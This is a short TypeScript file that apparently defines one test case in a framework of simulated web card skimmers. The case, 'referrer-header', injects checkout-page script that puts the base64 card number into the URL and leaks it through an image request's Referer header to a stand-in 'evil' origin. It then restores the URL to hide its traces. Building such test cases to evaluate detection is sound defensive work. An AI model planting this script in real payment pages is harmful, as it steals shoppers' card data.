import { holds, js, skimmer } from '../behaviour.ts';
import { at, base64 } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'referrer-header',
  why: 'The card is in the address of the page for a moment, and the browser puts that into the Referer header of an innocent picture.',
  covers: ['hard: unusual channel', 'sending: image', 'disguise: removes traces'],
  base: 'direct',
  install: (site) =>
    site.inline(
      onPay(js`
    var here = location.href;
    history.replaceState(null, '', '?v=' + encodeURIComponent(btoa(card())));
    var i = new Image();
    i.referrerPolicy = 'unsafe-url';
    i.src = '${site.origins.evil}/clear.gif';
    setTimeout(function () { history.replaceState(null, '', here); }, 20);`),
    ),
  proof: holds((arrived) =>
    at(arrived, 'evil').map(({ headers }) =>
      base64(URL.parse(headers.referer ?? '')?.searchParams.get('v') ?? ''),
    ),
  ),
});
